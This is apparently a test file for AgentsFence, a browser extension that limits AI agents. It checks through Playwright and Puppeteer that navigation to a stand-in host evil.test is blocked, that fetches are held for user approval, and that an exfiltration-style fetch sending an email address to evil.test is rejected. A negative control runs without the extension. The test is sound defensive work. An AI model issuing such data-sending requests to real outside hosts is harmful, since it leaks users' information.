import type { Page as PwPage } from '@playwright/test';
import puppeteer from 'puppeteer-core';
import type { AgentBrowser, LaunchOptions } from '../src/harness';
import { expect, test } from './fixtures/extension';
import type { TestServer } from './fixtures/server';

/**
 * What an agent sees when AgentsFence says no (docs/decisions.md, "What your agent sees"), through Playwright and
 * through Puppeteer (over the harness's raw CDP port): a blocked navigation rejects with
 * net::ERR_BLOCKED_BY_CLIENT and the tab then shows the blocked page titled "Blocked by AgentsFence
 * (check: reason)"; a blocked fetch rejects with the same words; a held request says in the console that
 * it waits for the user and, unanswered, rejects when the task's ask timeout ends. The test server's log
 * is the truth; the negative control shows the same navigation succeeding without the extension.
 */

const TASK = 'Read the front page of news.test';
const ASK_TIMEOUT_S = 5;

test.beforeAll(({ server }) => {
  server.setPage('/', '<!doctype html><title>news</title><h1>news</h1>');
});

const evilHits = (server: TestServer) => server.requests().filter((r) => r.host === 'evil.test');

async function guarded(launchFence: (options?: LaunchOptions) => Promise<AgentBrowser>, options: { remoteDebuggingPort?: number } = {}): Promise<AgentBrowser> {
  const browser = await launchFence(options);
  await browser.setTask(TASK, { askTimeoutSeconds: ASK_TIMEOUT_S });
  return browser;
}

test('Playwright: goto to a blocked site rejects, the tab shows why, fetch rejects with the check, a held request says it waits', async ({ launchFence, server }) => {
  const browser = await guarded(launchFence);
  const page: PwPage = await browser.context.newPage();
  const ok = await page.goto(`${server.origin('news.test')}/`);
  expect(ok?.status()).toBe(200);

  const blocked = await page.goto(`${server.origin('evil.test')}/landing`).then(
    () => 'resolved',
    (err: Error) => err.message,
  );
  expect(blocked).toContain('net::ERR_BLOCKED_BY_CLIENT');
  await expect(page).toHaveURL(/\/blocked\.html\?check=/);
  await expect(page).toHaveTitle(/^Blocked by AgentsFence \(domain_allowlist: /);
  const audit = await browser.audit({ decision: 'BLOCK' });
  expect(audit.some((e) => e.layer === 'network' && e.destination?.includes('evil.test'))).toBe(true);

  const news = await browser.context.newPage();
  await news.goto(`${server.origin('news.test')}/`);
  const console: string[] = [];
  news.on('console', (m) => console.push(m.text()));
  const exfil = await news.evaluate((url) => fetch(url).then(() => 'sent', (e: Error) => e.message), `${server.origin('evil.test')}/p?to=alice@corp.test`);
  expect(exfil).toMatch(/^Failed to fetch: blocked by AgentsFence \(exfiltration_url: /);

  const started = Date.now();
  const held = await news.evaluate((url) => fetch(url, { method: 'POST', body: 'x=1' }).then(() => 'sent', (e: Error) => e.message), `${server.origin('evil.test')}/post`);
  expect(held).toMatch(/blocked by AgentsFence \(.*waited 5 s for the user's approval/);
  expect(Date.now() - started).toBeLessThan((ASK_TIMEOUT_S + 5) * 1000);
  expect(console.some((line) => /waiting for the user's approval/.test(line))).toBe(true);
  expect(evilHits(server)).toEqual([]);
});

test('Puppeteer (puppeteer-core over CDP): goto rejects with ERR_BLOCKED_BY_CLIENT, fetch rejects naming AgentsFence and the check', async ({ launchFence, server }) => {
  const browser = await guarded(launchFence, { remoteDebuggingPort: 0 });
  const agent = await puppeteer.connect({ browserURL: browser.cdpEndpoint!, defaultViewport: null });
  try {
    const page = await agent.newPage();
    const ok = await page.goto(`${server.origin('news.test')}/`);
    expect(ok?.status()).toBe(200);
    const blocked = await page.goto(`${server.origin('evil.test')}/landing`).then(
      () => 'resolved',
      (err: Error) => err.message,
    );
    expect(blocked).toContain('net::ERR_BLOCKED_BY_CLIENT');
    const news = await agent.newPage();
    await news.goto(`${server.origin('news.test')}/`);
    const exfil = await news.evaluate((url) => fetch(url).then(() => 'sent', (e: Error) => e.message), `${server.origin('evil.test')}/p?to=alice@corp.test`);
    expect(exfil).toMatch(/^Failed to fetch: blocked by AgentsFence \(exfiltration_url: /);
    expect(evilHits(server)).toEqual([]);
  } finally {
    await agent.disconnect();
  }
});

test('negative control: without the extension the same navigation and fetch reach evil.test', async ({ launchFence, server }) => {
  const browser = await launchFence({ extension: false });
  const page = await browser.context.newPage();
  const response = await page.goto(`${server.origin('evil.test')}/landing`);
  expect(response?.status()).toBe(200);
  await page.evaluate((url) => fetch(url).then(() => 'sent'), `${server.origin('evil.test')}/p?to=alice@corp.test`);
  expect(evilHits(server).map((r) => r.path)).toEqual(expect.arrayContaining(['/landing', '/p']));
});
